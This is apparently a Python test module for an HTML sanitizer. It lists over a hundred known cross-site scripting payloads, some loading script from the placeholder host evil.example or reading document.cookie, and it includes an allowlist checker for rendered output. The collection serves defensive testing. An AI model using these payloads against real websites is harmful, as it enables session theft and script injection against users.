"""Known XSS vectors (OWASP's XSS filter evasion cheat sheet, mutation XSS, namespace confusion, LaTeX tricks)
and a checker that an HTML string holds nothing executable and loads nothing from another host."""

from __future__ import annotations

import re
from html.parser import HTMLParser

KEY = "a" * 64
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"
JS_DEC = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
JS_HEX = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"

VECTORS = [
    # <script> in its many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # images with handlers and script URLs
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="' + JS_DEC + '&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=" + JS_DEC + "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=" + JS_HEX + "&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="https://evil.example/track.png">',
    '<img src="//evil.example/track.png">',
    '<img src="/richtext/images/../../account/logout">',
    f'<img src="/richtext/images/{KEY}?x=https://evil.example/">',
    f'<img src="/richtext/images/{KEY.upper()}">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<isindex type=image src=1 onerror=alert(1)>",
    # event handlers on allowed and unknown tags
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "<p onmouseover=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<h1 onmouseover=alert(1)>x</h1>",
    "<ul><li onclick=alert(1)>x</li></ul>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY ONLOAD=alert('XSS')>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    # script URLs on links, with entity, whitespace and case tricks
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="' + JS_DEC + 'alert(1)">x</a>',
    '<a href="' + JS_HEX + 'alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,' + B64_SCRIPT + '">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="/account/logout">a relative link</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    # styles
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<a href="https://ok.example/" style="color:red" class="btn" id="main">x</a>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    # frames, objects, embeds, forms, base, meta
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="data:image/svg+xml;base64,' + B64_SCRIPT + '" type="image/svg+xml" AllowScriptAccess="always">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://evil.example/">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,' + B64_SCRIPT + '">',
    '<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    '<table><tr><td background="https://evil.example/x.png">x</td></tr></table>',
    "<table><tr><td><script>alert(1)</script>cell</td></tr></table>",
    # SVG and MathML, and namespace confusion
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"></use></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # mutation XSS and raw-text elements
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p>a</p><select><option><img src=x onerror=alert(1)></option></select>",
    # the editor's own attachments, forged
    '<figure data-trix-attachment=\'{"content":"<img src=x onerror=alert(1)>"}\'>x</figure>',
    '<figure><img src="javascript:alert(1)"><figcaption onclick="alert(1)">c</figcaption></figure>',
    # LaTeX that tries to reach the page through the MathML converter
    "<p>\\(\\href{javascript:alert(1)}{x}\\)</p>",
    "<p>\\(\\style{background:url(https://evil.example/x)}{x}\\)</p>",
    "<p>\\(\\text{<img src=x onerror=alert(1)>}\\)</p>",
    "<p>$$\\text{<script>alert(1)</script>}$$</p>",
    "<p>\\[\\color{red}{x}\\class{btn}{y}\\]</p>",
    '<p>\\(\\text{"><svg onload=alert(1)>}\\)</p>',
]

# What rendered output may contain, and no more.
HTML_TAGS = {
    "div", "p", "br", "h2", "h3", "h4", "blockquote", "pre", "code", "strong", "em", "del", "sub", "sup", "a",
    "ul", "ol", "li", "table", "tbody", "tr", "th", "td", "figure", "figcaption", "img",
}  # fmt: skip
MATHML_TAGS = {
    "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac", "msqrt",
    "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom",
    "menclose", "mmultiscripts", "mprescripts", "none", "merror",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "href", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "class", "title", "role", "tabindex",
    "aria-label", "loading", "decoding", "display", "mathvariant", "stretchy", "fence", "separator", "lspace",
    "rspace", "accent", "accentunder", "linethickness", "columnalign", "rowalign", "columnspacing", "rowspacing",
    "columnlines", "rowlines", "frame", "displaystyle", "scriptlevel", "minsize", "maxsize", "movablelimits",
    "symmetric", "largeop", "notation", "depth", "form",
}  # fmt: skip
IMAGE_SRC = re.compile(r"^/richtext/images/[0-9a-f]{64}$")
LINK = re.compile(r"^(https?://|mailto:)", re.IGNORECASE)


# Before blocks.py rewrites them to the stored vocabulary, cleaned HTML may also hold these harmless tags.
INPUT_TAGS = {"div", "h1", "h5", "h6", "b", "i", "s", "strike", "thead", "tfoot", "caption"}


class _Collector(HTMLParser):
    def __init__(self, tags):
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.tags:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if "evil.example" in value:
                self.problems.append(f"outside host in {name} on <{tag}>")
            if name not in SAFE_ATTRIBUTES:
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name == "src" and not IMAGE_SRC.match(value):
                self.problems.append(f"src {value!r}")
            elif name == "href" and not (tag == "a" and LINK.match(value)):
                self.problems.append(f"href {value!r} on <{tag}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append("comment")

    def handle_pi(self, data):
        self.problems.append("processing instruction")

    def unknown_decl(self, data):
        self.problems.append("declaration")


def problems(markup: str, input_side: bool = False) -> list[str]:
    """Everything executable or outside-pointing in `markup`: [] means it is safe to put in a page."""
    collector = _Collector(HTML_TAGS | MATHML_TAGS | (INPUT_TAGS if input_side else set()))
    collector.feed(markup)
    collector.close()
    return collector.problems
